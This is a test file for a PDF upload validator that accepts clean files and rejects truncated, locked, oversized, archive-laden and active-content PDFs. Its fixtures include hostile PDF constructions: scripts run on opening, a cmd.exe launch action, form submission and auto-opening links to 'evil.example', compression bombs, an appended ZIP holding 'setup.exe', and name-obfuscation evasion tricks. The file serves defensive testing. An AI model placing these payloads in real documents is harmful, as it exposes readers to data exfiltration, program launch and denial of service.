import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { zipOf } from '../../../test/workbook-samples.ts'
import { onePage, packedObject, pageOfSize, writePdf } from './pdf-samples.ts'
import { findPdfFault, type PdfFault } from './pdf-structure.ts'

const bomb = (megabytes: number): Buffer => deflateSync(Buffer.alloc(megabytes * 1024 * 1024))
const kids = (count: number): string => `<</Type/Pages/Count ${count}/Kids[${'3 0 R '.repeat(count)}]>>`

const sound: Record<string, Buffer> = {
  'one empty page': onePage(),
  'a page of several megabytes': pageOfSize(5_000_000),
  'a link to a web page': onePage('', ['<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.mn)>>>>']),
  'a font that happens to be called JS': onePage('', ['<</Font<</JS<</Type/Font>>>>>>']),
  'a picture that unpacks to 40 MB': onePage('', [{ dict: '/Filter/FlateDecode', bytes: bomb(40) }]),
  'a page and a zoom to begin with': onePage('/OpenAction[3 0 R/XYZ 0 842 1.5]'),
  'a page to begin with, told as an action': onePage('/OpenAction 4 0 R', [
    '<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/FirstPage>>>>',
  ]),
  'a page to begin with, by name': onePage('/OpenAction<</S/GoTo/D(start)>>'),
  'a link to a web page beside a page to begin with': onePage('/OpenAction[3 0 R/Fit]', [
    '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.mn)>>>>',
  ]),
  'a link to another file': onePage('', ['<</Type/Annot/Subtype/Link/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>']),
  'a version before, which somebody saved over': Buffer.concat([
    onePage('', ['<</Title(first)>>']),
    Buffer.from('4 0 obj<</Title(second)>>endobj\ntrailer<</Size 5/Root 1 0 R>>\nstartxref\n9\n%%EOF\n'),
  ]),
  'words about archives': onePage('', [
    { dict: '', bytes: Buffer.from('(PK\x05\x06 marks the end of a ZIP)', 'latin1') },
  ]),
  'a line end after the end mark': Buffer.concat([onePage(), Buffer.from('\r\n\r\n')]),
}

const faulty: Record<string, [Buffer, PdfFault]> = {
  'a file cut in the middle': [pageOfSize(20_000).subarray(0, 12_000), 'truncated'],
  'a web-ready file that is shorter than it says': [onePage('', ['<</Linearized 1/L 999999>>']), 'truncated'],
  'another file behind the end mark': [Buffer.concat([onePage(), Buffer.alloc(5000, 0x50)]), 'truncated'],
  'a password': [onePage('', ['<</Filter/Standard/V 2/R 3/P -1/O(o)/U(u)>>'], '/Encrypt 4 0 R'), 'locked'],
  'a script that runs on opening': [onePage('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'active_content'],
  'a script with a disguised name': [onePage('/OpenAction<</S/J#61v#61Script/JS 4 0 R>>', ['(x)']), 'active_content'],
  'a script packed in an object stream': [
    onePage('/OpenAction 9 0 R', [packedObject('<</S/JavaScript/JS(x)>>')]),
    'active_content',
  ],
  'a script hidden behind a second object of the same number': [
    onePage('/OpenAction 4 0 R', ['<</S/JavaScript/JS(x)>> endobj 4 0 obj <</S/URI/URI(https://example.mn)>>']),
    'active_content',
  ],
  'a programme to start': [onePage('', ['<</Type/Annot/Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>']), 'active_content'],
  'an attachment': [
    onePage('/Names<</EmbeddedFiles 4 0 R>>', ['<</Names[(a)5 0 R]>>', '<</Type/Filespec>>']),
    'active_content',
  ],
  'an XFA form': [onePage('/AcroForm<</XFA 4 0 R>>', [{ dict: '', bytes: Buffer.from('<xdp/>') }]), 'active_content'],
  'a form that is sent when it is opened': [
    onePage('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
    'active_content',
  ],
  'a form that is sent by a button': [
    onePage('', ['<</Type/Annot/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>>>']),
    'active_content',
  ],
  'a form that is sent, under a disguised name': [onePage('', ['<</S/Submit#46orm/F(x)>>']), 'active_content'],
  'a web page that opens by itself': [onePage('/OpenAction<</S/URI/URI(https://evil.example)>>'), 'active_content'],
  'a web page that opens by itself, told elsewhere': [
    onePage('/OpenAction 4 0 R', ['<</S 5 0 R/URI(https://evil.example)>>', '/URI']),
    'active_content',
  ],
  'a web page that opens after a page of its own': [
    onePage('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>4 0 R]>>', [
      '<</S/URI/URI(https://evil.example)>>',
    ]),
    'active_content',
  ],
  'a web page that opens by itself, packed in an object stream': [
    onePage('/OpenAction 9 0 R', [packedObject('<</S/URI/URI(https://evil.example)>>')]),
    'active_content',
  ],
  'a web page that opens by itself, in an earlier version of the object': [
    onePage('/OpenAction 4 0 R', ['<</S/URI/URI(https://evil.example)>> endobj 4 0 obj <</S/GoTo/D[3 0 R/Fit]>>']),
    'active_content',
  ],
  'a web page that opens by itself, in bytes where no parser looks': [
    onePage('/OpenAction 4 0 R', [
      '<</S/GoTo/D[3 0 R/Fit]>>',
      { dict: '', bytes: Buffer.from('4 0 obj<</S/URI/URI(https://evil.example)>>endobj') },
    ]),
    'active_content',
  ],
  'an action to begin with that stands nowhere': [onePage('/OpenAction 99 0 R'), 'active_content'],
  'a catalog with such an action, in bytes where no parser looks': [
    onePage('', [{ dict: '', bytes: Buffer.from('1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(x)>>>>') }]),
    'active_content',
  ],
  'another file that opens when a page is shown': [
    onePage('', ['<</Type/Page/AA<</O<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>>>']),
    'active_content',
  ],
  'a web page that opens when the file is left': [
    onePage('/AA 4 0 R', ['<</WC 5 0 R>>', '<</S/URI/URI(x)>>']),
    'active_content',
  ],
  'a web page that opens when the mouse passes over a field': [
    onePage('', ['<</Type/Annot/Subtype/Widget/AA<</E<</S/URI/URI(https://evil.example)>>>>>>']),
    'active_content',
  ],
  'data brought in by itself': [onePage('/OpenAction<</S/ImportData/F(data.fdf)>>'), 'active_content'],
  'a sound to begin with': [onePage('/OpenAction<</S/Sound>>'), 'active_content'],
  'a picture that unpacks to 300 MB': [
    onePage('', [{ dict: '/Filter/FlateDecode', bytes: bomb(300) }]),
    'too_large_inside',
  ],
  'an object stream that unpacks to 40 MB': [
    onePage('', [{ dict: '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode', bytes: bomb(40) }]),
    'too_large_inside',
  ],
  'three thousand pages': [
    writePdf(['<</Type/Catalog/Pages 2 0 R>>', kids(3000), '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>']),
    'page_count',
  ],
  'no page at all': [writePdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']), 'page_count'],
  'a catalog that leads nowhere': [writePdf(['<</Type/Catalog/Pages 9 0 R>>']), 'unreadable'],
}

/** The same file with a ZIP somewhere. */
const archives: Record<string, () => Promise<Buffer>> = {
  'a ZIP after the end': async () => Buffer.concat([onePage(), await zipOf({ a: 'x' })]),
  'a ZIP after the end, and an end mark behind it': async () =>
    Buffer.concat([onePage(), await zipOf({ 'setup.exe': 'x'.repeat(3000) }), Buffer.from('\nstartxref\n9\n%%EOF\n')]),
  'a ZIP before the end mark, inside a stream': async () => onePage('', [{ dict: '', bytes: await zipOf({ a: 'x' }) }]),
  'a RAR after the end': async () => Buffer.concat([onePage(), Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')]),
  'a 7z after the end': async () => Buffer.concat([onePage(), Buffer.from('7z\xbc\xaf\x27\x1c\0\x04', 'latin1')]),
  'a cabinet after the end': async () => Buffer.concat([onePage(), Buffer.from('MSCF\0\0\0\0')]),
  'a disk image': async () => {
    const pdf = pageOfSize(60_000)
    pdf.write('CD001', 0x8001)
    return pdf
  },
}

describe('the structure of an uploaded PDF', () => {
  it.each(Object.entries(archives))('[REQ-READFILE-08] refuses %s', async (_, make) => {
    expect(await findPdfFault(await make())).toBe('archive')
  })

  const leads = ([name]: readonly [string, Buffer]) => /^a link|to begin with/.test(name)
  it.each(Object.entries(sound).filter(leads))('[REQ-READFILE-09] accepts %s', async (_, pdf) => {
    expect(await findPdfFault(pdf)).toBeNull()
  })

  it.each(Object.entries(sound).filter(one => !leads(one)))('accepts %s', async (_, pdf) => {
    expect(await findPdfFault(pdf)).toBeNull()
  })

  const acts = ([, [, fault]]: readonly [string, readonly [Buffer, PdfFault]]) => fault === 'active_content'
  it.each(Object.entries(faulty).filter(acts))('[REQ-READFILE-07] refuses %s', async (_, [pdf, fault]) => {
    expect(await findPdfFault(pdf)).toBe(fault)
  })

  it.each(Object.entries(faulty).filter(one => !acts(one)))('refuses %s', async (_, [pdf, fault]) => {
    expect(await findPdfFault(pdf)).toBe(fault)
  })
})
